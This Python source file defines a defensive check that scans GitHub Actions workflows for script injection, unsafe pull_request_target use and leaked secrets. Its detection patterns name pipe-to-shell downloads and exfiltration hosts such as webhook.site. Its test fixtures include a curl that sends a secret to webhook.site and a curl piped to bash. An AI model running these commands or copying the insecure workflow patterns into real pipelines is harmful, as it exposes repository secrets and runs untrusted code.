"""Can a stranger make the workflows run what they like?"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise

from nhsr_registry import re
from nhsr_registry.checks import _workflow_given
from nhsr_registry.checks._base import Check, Subject
from nhsr_registry.checks._leaks import LOOK
from nhsr_registry.checks._workflow_kept import kept
from nhsr_registry.checks._workflow_unseen import unseen
from nhsr_registry.model import Evidence, Finding

_FILES = (".github/workflows/*.{yml,yaml}", ".github/actions/**/action.{yml,yaml}")
_HEAD = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
#: What a stranger writes: titles, texts, names of branches.
_THEIRS = (
    r"github\.(?:head_ref|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review(?:_comment)?\.body"
    r"|discussion\.(?:title|body)|head_commit\.(?:message|author\.(?:email|name))|commits|pages|workflow_run\.(?:head_branch|display_title|head_commit\.message)))"
)
_PASTED = re.compile(rf"\$\{{\{{[^{{}}]*\b{_THEIRS}\b[^{{}}]*\}}\}}")
_RUNS = re.compile(r"^(?P<indent>\s*)(?:-\s+)?(?:run|script)\s*:\s*(?P<rest>.*)$")
_TRUSTED = re.compile(
    r"^[ \t]*[\"']?on[\"']?[ \t]*:.*\b(?:pull_request_target|workflow_run)\b|^[ \t]{1,6}-?[ \t]*(?:pull_request_target|workflow_run)\b\s*:?",
    re.MULTILINE,
)
#: A comment starts it, and anybody may comment; many such workflows ask first who wrote it.
_ON_COMMENT = re.compile(
    r"^[ \t]*[\"']?on[\"']?[ \t]*:.*\bissue_comment\b|^[ \t]{1,6}-?[ \t]*issue_comment\b\s*:?", re.MULTILINE
)
_ASKS_WHO = re.compile(
    r"author_association|github\.actor|comment\.user\.login|permission-level|check-permission|getCollaboratorPermission",
    re.IGNORECASE,
)
#: All variables of a step go to a file, where the log's veil over secrets does not reach.
_ENVIRONMENT = re.compile(
    r"(?:^|[\n;&{:])[ \t]{0,40}(?:-[ \t]+)?(?:run[ \t]*:[ \t]*)?(?P<does>env|printenv|export -p)[ \t]*>"
)
_CHECKOUT = re.compile(
    r"^[ \t]*ref[ \t]*:.*(?:github\.event\.pull_request\.(?:head|merge)|github\.head_ref|refs/pull/|github\.event\.workflow_run\.head_(?:branch|sha|commit))"
    r"|^[ \t]*repository[ \t]*:.*github\.event\.(?:pull_request\.head|workflow_run\.head_repository)"
    r"|^[^#\n]*\bgh pr checkout\b|^[^#\n]*\bgit (?:fetch|checkout)\b[^\n]{0,300}?(?:refs/pull/|pull/\$|github\.head_ref)",
    re.MULTILINE,
)

_STEP = re.compile(r"^[ \t]*-[ \t]+(?=[\w-]{1,40}[ \t]*:)", re.MULTILINE)
_ALL_SECRETS = re.compile(r"\$\{\{[^{}]{0,80}\btoJSON\s{0,3}\(\s{0,3}secrets\s{0,3}\)", re.IGNORECASE)
_FETCHED = re.compile(
    r"\b(?:curl|wget)\b[^\n|]{0,300}\|[ \t]{0,5}(?:sudo[ \t]{1,3}(?:-\w{1,3}[ \t]{1,3})?)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da)?sh\b|(?:python3?|perl|Rscript|node)(?:[ \t]{1,3}-)?[ \t]{0,5}(?=$|[\n;&\"']))"
    r"|\b(?:ba|z|da)?sh[ \t]{1,3}(?:-c[ \t]{1,3})?[\"']?[<$]\([ \t]{0,3}(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,80}\b(?:iwr|irm|DownloadString|Invoke-(?:WebRequest|RestMethod))\b",
    re.MULTILINE,
)
#: Places where everybody may drop something, and look at what others dropped.
_CATCHES = re.compile(
    r"\b(?:webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator|oast(?:ify)?\.(?:com|me|fun|live|pro|site|online)|interact\.sh|beeceptor\.com|hookb\.in|transfer\.sh|file\.io/|0x0\.st|pastebin\.com|paste\.rs|termbin\.com|requestcatcher|postb\.in|dnslog\.)",
    re.IGNORECASE,
)
#: A secret that travels where everybody on the way reads it.
_UNCLOSED = re.compile(
    r"^(?=[^\n]{0,600}\$\{\{\s{0,5}secrets\.)[^\n]{0,300}\b(?:curl|wget|Invoke-(?:WebRequest|RestMethod))\b[^\n]{0,300}[\s\"'=]http://(?!localhost|127\.|\[::1|\$|host\.docker)",
    re.IGNORECASE,
)
#: What another workflow left, which on a pull request a stranger's code made; and commands that run a file.
_LEFT = re.compile(
    r"^[^#\n]{0,200}(?:\buses[ \t]*:[ \t]*[\"']?[\w.-]{1,60}/[\w./-]{0,60}download[\w-]{0,10}artifact\w{0,10}|\bgh[ \t]+run[ \t]+download\b|\bdownloadArtifact\b)",
    re.MULTILINE,
)
_RUN_FILE = re.compile(
    r"(?:^|[\s;&|(])(?:(?:bash|sh|source|python3?|Rscript|node|perl)[ \t]{1,3}(?!-)(?:\./)?(?P<file>[\w./$-]{1,120})|\./(?P<own>[\w./$-]{1,120})|(?P<made>make|npm (?:ci|install|run)|pip install|R CMD INSTALL)\b)"
)
_OWN_CODE = re.compile(r"\buses[ \t]*:[ \t]*[\"']?actions/checkout@|\bgit clone\b")
_LANDS = re.compile(r"^[ \t]*(?:path|name)[ \t]*:[ \t]*[\"']?(?:\./)?(?P<path>\w[\w./-]{0,100})", re.MULTILINE)
#: A secret printed: the log hides it as it is, but not once it was changed (`| base64`), cut or turned round.
_PRINTED = re.compile(
    r"(?:^|[;&|\s\"'])(?:echo|printf)\b[^\n>]{0,200}?\$\{\{\s{0,5}secrets\.[^{}\n]{1,80}\}\}(?P<after>[^\n]*)",
    re.IGNORECASE,
)
#: Where a printed secret goes into a file or into a program that asks for one.
_KEPT = re.compile(r">|\|\s*(?!base64\b|rev\b|sed\b|tr\b|cut\b|xxd\b|od\b|tee\b(?!\s*-a\s*\$)|cat\b)[\w./-]")
#: Somebody else's action at a branch, which changes as they like, in a step that gets a secret of ours. Actions of the
#: services that such secrets are for (Posit Connect, Azure, Codecov …) get only what the service has already.
_MOVING = re.compile(
    r"\buses[ \t]*:[ \t]*[\"']?(?!(?:actions|github|rstudio|posit-dev|r-lib|docker|azure|aws-actions|google-github-actions|codecov|databricks|snowflake-labs|hashicorp|pypa)/|\./|docker://)[\w.-]{1,60}/[\w./-]{1,100}@(?:master|main|head|latest|dev|develop|trunk)\b",
    re.IGNORECASE,
)
_OURS = re.compile(r"\bsecrets\.(?!GITHUB_TOKEN\b)\w", re.IGNORECASE)
_OWN_MACHINE = re.compile(
    r"^[ \t]*runs-on[ \t]*:[^\n#]*\bself-hosted\b|^[ \t]*-[ \t]*[\"']?self-hosted\b", re.MULTILINE
)
_ON_REQUESTS = re.compile(
    r"^[ \t]*[\"']?on[\"']?[ \t]*:.*\bpull_request\b(?!_)|^[ \t]{1,6}-?[ \t]*pull_request[ \t]*:?[ \t]*$", re.MULTILINE
)
_WRITE_ALL = re.compile(r"^[ \t]*[\"']?permissions[\"']?[ \t]*:[ \t]*[\"']?write-all\b", re.MULTILINE)
_LISTED = "keeps every variable of a step that holds a secret"
_UNSEEN = "runs a script that is fetched unseen"
_HANDED = "hands a secret to a script that is fetched and run unseen"


class WorkflowSafe(Check):
    """Workflows do not run what strangers send

    Workflows are the files in `.github/workflows` that GitHub runs by itself. One that pastes the title of an issue
    or the name of a branch into a command runs whatever somebody writes there; another that starts on
    `pull_request_target` and fetches the pull request runs a stranger's code with your secrets. Pass such texts
    through `env:` instead, and use `pull_request`. Where there are no such files, or only those of other services
    (Travis, GitLab, Azure), the question does not apply.
    See https://docs.github.com/actions/security-guides/security-hardening-for-github-actions.
    """

    id = "workflow-safe"
    step = "Let workflows treat what strangers send as text only"
    reads = _FILES
    effort = "minutes"
    private = True
    commands = {"*": 'env:\n  TITLE: ${{ github.event.issue.title }}\nrun: echo "$TITLE"'}
    passing = (
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: echo K=${{ secrets.KEY }} >> $GITHUB_ENV\n      - run: echo ${{ secrets.T }} | docker login -u me --password-stdin\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: rstudio/actions/connect-publish@main\n        with:\n          api-key: ${{ secrets.KEY }}\n      - uses: somebody/deploy@v2\n        with:\n          key: ${{ secrets.KEY }}\n"
        },
        {
            ".github/workflows/a.yml": "on:\n  workflow_run:\n    workflows: [b]\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          path: left\n      - run: python post.py left/report.json\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    uses: example-trust/ci/.github/workflows/r.yml@v1\n    secrets:\n      T: ${{ secrets.T }}\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: curl -LsSf https://example.org/i.sh | sh\n      - run: deploy\n        env:\n          T: ${{ secrets.T }}\n"
        },
        {".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: pytest\n"},
        {
            ".github/workflows/a.yml": 'on: issues\njobs:\n  a:\n    steps:\n      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "$T"\n'
        },
        {".github/workflows/a.yml": _HEAD + "      - uses: actions/checkout@v4\n      - uses: actions/labeler@v5\n"},
        {
            ".github/workflows/a.yml": "on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
        },
    )
    failing = (
        {".github/workflows/a.yml": "permissions: write-all\non: push\njobs:\n  a:\n    steps:\n      - run: make\n"},
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ secrets.KEY }} | base64\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: somebody/deploy@main\n        with:\n          key: ${{ secrets.KEY }}\n"
        },
        {".github/workflows/a.yml": "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted]\n"},
        {".github/workflows/a.yml": "on: push\njobs:\n  a:\n    runs-on: self-hosted\n"},
        {
            ".github/workflows/a.yml": "on:\n  workflow_run:\n    workflows: [b]\njobs:\n  a:\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          path: left\n      - run: bash left/post.sh\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d k=${{ secrets.K }} https://webhook.site/1\n"
        },
        {
            ".github/workflows/a.yml": "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: ./x\n        env:\n          A: ${{ toJSON(secrets) }}\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: curl -sSL https://example.org/i.sh | bash\n        env:\n          T: ${{ secrets.T }}\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' > s.json\n"
        },
        {
            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: printenv > e.txt\n        env:\n          A: ${{ secrets.KEY }}\n      - uses: actions/upload-artifact@v4\n"
        },
        {
            ".github/workflows/a.yml": "on: issue_comment\njobs:\n  a:\n    steps:\n      - run: gh pr checkout 1 && make\n"
        },
        {
            ".github/workflows/a.yml": _HEAD
            + "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
        },
        {
            ".github/workflows/a.yml": 'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n'
        },
        {
            ".github/workflows/a.yml": "on: pull_request\njobs:\n  a:\n    steps:\n      - run: |\n          git log\n          git checkout ${{ github.head_ref }}\n"
        },
    )

    @classmethod
    def run(cls, subject: Subject) -> Finding:
        snapshot = subject.snapshot
        paths = snapshot.find(*_FILES)
        if not paths:
            return cls.does_not_apply("There are no workflows.")
        owner = (snapshot.repository or "").partition("/")[0].lower()
        found = [where for path, text in snapshot.read(*_FILES) for where in _dangers(path, text, owner)]
        if found:
            return cls.fails(f"{len(found)} line{'s' * (len(found) > 1)} to look at.", found)
        if lost := snapshot.unread(*_FILES):
            return cls.cannot_tell(f"{lost[0]} could not be read.", [Evidence(path=lost[0])])
        if not any(text.strip() for _, text in snapshot.read(*_FILES)):
            return cls.does_not_apply("The workflows are empty.")
        return cls.passes(
            f"{len(paths)} workflow{'s' * (len(paths) > 1)} looked at.",
            [Evidence(path=path) for path in paths],
            "inferred",
        )


def _dangers(path: str, text: str, owner: str) -> Iterator[Evidence]:
    """What one workflow does; what is to look at is not told again where something else is."""
    told = [*_surely(path, text, owner)]
    lines = {one.line for one in told}
    yield from told
    more = (
        *_workflow_given.given(path, text, [*_commands(text)], owner),
        *_workflow_given.reused(path, text, owner),
        *unseen(path, text, owner),
    )
    yield from (one for one in more if one.line not in lines)


def _surely(path: str, text: str, owner: str) -> Iterator[Evidence]:
    if _TRUSTED.search(text) or (_ON_COMMENT.search(text) and not _ASKS_WHO.search(text)):
        for found in _CHECKOUT.finditer(text):
            line = text.count("\n", 0, found.end()) + 1
            yield Evidence(path=path, line=line, note="fetches a stranger's code with this repository's rights")
    yield from _with_secrets(path, text)
    if given := _WRITE_ALL.search(text):
        line = text.count("\n", 0, given.end()) + 1
        yield Evidence(path=path, line=line, note="gives every step the right to change all of the repository")
        for number, command in _commands(text):
            if _FETCHED.search(command):
                yield Evidence(path=path, line=number, note=f"{_UNSEEN}, with that right")
    yield from _left(path, text)
    yield from _sent(path, text)
    yield from _shown(path, text, owner)
    yield from kept(path, text, _commands(text))
    yield from _moving(path, text, owner)
    if _ON_REQUESTS.search(text) and (own := _OWN_MACHINE.search(text)):
        line = text.count("\n", 0, own.end()) + 1
        yield Evidence(path=path, line=line, note="runs a stranger's pull request on a machine of your own")
    for number, command in _commands(text):
        if _PASTED.search(command):
            yield Evidence(path=path, line=number, note="pastes what strangers write into a command")


def _with_secrets(path: str, text: str) -> Iterator[Evidence]:
    """Commands that get all secrets, and steps that hand a secret to a script fetched in the same breath."""
    if "secrets" not in text:
        return
    yield from _of_steps(path, text)
    for number, command in _commands(text):
        if _ALL_SECRETS.search(command):
            yield Evidence(path=path, line=number, note="hands every secret to a command")
        elif (printed := _PRINTED.search(command)) and not _KEPT.search(printed["after"]):
            yield Evidence(path=path, line=number, note="prints a secret into the log, which anybody may read")
    if _TRUSTED.search(text):
        commanded = {number for number, _ in _commands(text)}
        for found in _ALL_SECRETS.finditer(text):
            if (line := text.count("\n", 0, found.end()) + 1) not in commanded:
                yield Evidence(path=path, line=line, note="hands every secret to a run that strangers start")


def _of_steps(path: str, text: str) -> Iterator[Evidence]:
    """What a step does with the secrets that it is given."""
    steps = [found.start() for found in _STEP.finditer(text)]
    for start, end in pairwise([*steps, len(text)]):
        step = text[start:end]
        if "secrets." not in step and not _ALL_SECRETS.search(step):
            continue
        for pattern, note in ((_ENVIRONMENT, _LISTED), (_FETCHED, _HANDED)):
            if (found := pattern.search(step)) and (note != _LISTED or "upload-artifact" in text):
                at = start + found.start("does" if "does" in pattern.groupindex else 0)
                yield Evidence(path=path, line=text.count("\n", 0, at) + 1, note=note)


#: A variable of a step that holds a secret, and how programs print one of that name.
_NAMED = re.compile(r"^[ \t]*(?P<name>[A-Za-z_]\w{0,60})[ \t]*:[ \t]*[\"']?\$\{\{[ \t]*secrets\.", re.MULTILINE)
_UPLOADED = re.compile(r"^[ \t]*path[ \t]*:[ \t]*[\"']?(?:\./)?(?P<path>[\w.][\w./-]{0,100})", re.MULTILINE)
#: Files named after patients among what is uploaded, which anybody may download from a public repository.
_ROWS = re.compile(
    r"upload-artifact@[^\n]*\n(?:[^\n]*\n){0,8}?[^\n]*?\bpath[ \t]*:[ \t]*(?:[|>][-+]?[ \t]*\n[ \t]*)?[\"']?(?P<file>[\w./*-]{0,100}?(?:patients?|cohort|extract|nhs_?n\w{1,5}|person_?level|patient_?level|identifiable|pseudonymised|linked|admissions|spells|episodes|referrals_raw|waiting_?list|ptl)[\w.*/-]{0,60})",
    re.IGNORECASE,
)
_INTO = re.compile(
    r"\$\{\{\s{0,5}secrets\.[^{}\n]{1,80}\}\}[^\n|]{0,120}>{1,2}[ \t]{0,3}[\"']?(?:\./)?(?P<file>[\w.][\w./-]{0,100})"
)
_UNSECURE = re.compile(r"^[ \t]*ACTIONS_ALLOW_UNSECURE_COMMANDS[ \t]*:[ \t]*[\"']?true", re.MULTILINE)
_INHERITS = re.compile(
    r"\buses[ \t]*:[ \t]*[\"']?(?!\./)(?P<owner>[\w.-]{1,60})/[\w./-]{1,140}@(?![0-9a-f]{40})[^\s\"'#]{1,60}[^\n]*\n(?:[^\n]*\n){0,12}?[ \t]*secrets[ \t]*:[ \t]*inherit\b"
)


def _shown(path: str, text: str, owner: str) -> Iterator[Evidence]:
    """Secrets that a step prints by the name of its variable, keeps in a file that is uploaded, or hands on whole."""
    for found in _UNSECURE.finditer(text):
        line = text.count("\n", 0, found.end()) + 1
        yield Evidence(path=path, line=line, note="lets whatever is printed set variables and paths of later steps")
    for found in _INHERITS.finditer(text):
        if not owner or found["owner"].lower() != owner:
            line = text.count("\n", 0, found.start()) + 1
            yield Evidence(
                path=path, line=line, note="hands every secret to somebody else's workflow that changes as they like"
            )
    if "upload-artifact" in text:
        for found in _ROWS.finditer(text):
            line = text.count("\n", 0, found.start("file")) + 1
            yield Evidence(path=path, line=line, note="uploads what may be rows about patients" + LOOK)
    if "secrets." not in text:
        return
    names = {found["name"] for found in _NAMED.finditer(text)}
    loaded = {found["path"].rstrip("/") for found in _UPLOADED.finditer(text)} if "upload-artifact" in text else set()
    for number, command in _commands(text):
        if any(_prints(command, name) for name in names):
            yield Evidence(path=path, line=number, note="prints a secret into the log, which anybody may read")
        elif (into := _INTO.search(command)) and any(
            into["file"] == one or into["file"].startswith(f"{one}/") for one in loaded
        ):
            yield Evidence(path=path, line=number, note="keeps a secret in a file that is uploaded")


def _prints(command: str, name: str) -> bool:
    if name not in command:
        return False
    found = re.search(
        rf"\b(?:echo|printf)\b[^\n>]{{0,200}}?\$\{{?(?:env:)?{re.escape(name)}\b(?P<after>[^\n]*)", command
    )
    if found:
        return not _KEPT.search(found["after"])
    return bool(
        re.search(
            rf"\b(?:print|cat|message|Write-(?:Host|Output))\s?\(?[^\n]{{0,40}}(?:getenv\(|environ\W{{1,3}}|env:)[\"']?{re.escape(name)}\b|\bprintenv {re.escape(name)}\b(?![^\n]*[>|])",
            command,
        )
    )


def _sent(path: str, text: str) -> Iterator[Evidence]:
    """Secrets that leave for where others read them."""
    if "secrets" not in text:
        return
    steps = [found.start() for found in _STEP.finditer(text)]
    for start, end in pairwise([*steps, len(text)]):
        if "secrets" in text[start:end] and (found := _CATCHES.search(text, start, end)):
            line = text.count("\n", 0, found.start()) + 1
            yield Evidence(path=path, line=line, note="sends a secret, or may, to a page that anybody may read")
    for number, command in _commands(text):
        if _UNCLOSED.search(command):
            yield Evidence(path=path, line=number, note="sends a secret over a connection that is not encrypted")


def _left(path: str, text: str) -> Iterator[Evidence]:
    """A run with this repository's rights that starts a file which another run left, and a stranger may have made.

    Where the repository's own code is there as well, only a file in the folder of what was left counts.
    """
    if not ("workflow_run" in text and _TRUSTED.search(text) and (left := _LEFT.search(text))):
        return
    line = text.count("\n", 0, left.end()) + 1
    lands = {found["path"].rstrip("/") for found in _LANDS.finditer(text, left.end(), left.end() + 600)}
    own = bool(_OWN_CODE.search(text))
    for number, command in _commands(text):
        if number <= line or not (run := _RUN_FILE.search(command)):
            continue
        file = run["file"] or run["own"] or ""
        if not own or any(file == one or file.startswith(f"{one}/") for one in lands):
            yield Evidence(path=path, line=number, note="runs what a stranger's pull request may have left")


def _moving(path: str, text: str, owner: str) -> Iterator[Evidence]:
    """Steps that hand a secret to an action that is not pinned, and that is not of the project's own `owner`."""
    if not _OURS.search(text):
        return
    for start, end in pairwise([*(found.start() for found in _STEP.finditer(text)), len(text)]):
        if _OURS.search(text, start, end) and (moving := _MOVING.search(text, start, end)):
            if owner and re.search(rf"uses\W{{1,5}}{re.escape(owner)}/", moving[0], re.IGNORECASE):
                continue
            line = text.count("\n", 0, moving.start()) + 1
            yield Evidence(
                path=path, line=line, note="hands a secret to somebody else's action that changes as they like"
            )


def _commands(text: str) -> Iterator[tuple[int, str]]:
    """(number, line) of what `run:` and `script:` execute."""
    inside = -1
    for number, line in enumerate(text.split("\n"), 1):
        indent = len(line) - len(line.lstrip())
        if inside >= 0 and line.strip() and indent <= inside:
            inside = -1
        if inside >= 0:
            yield number, line
        elif found := _RUNS.match(line):
            yield number, str(found["rest"])
            if str(found["rest"]).startswith(("|", ">")):
                inside = len(found["indent"])
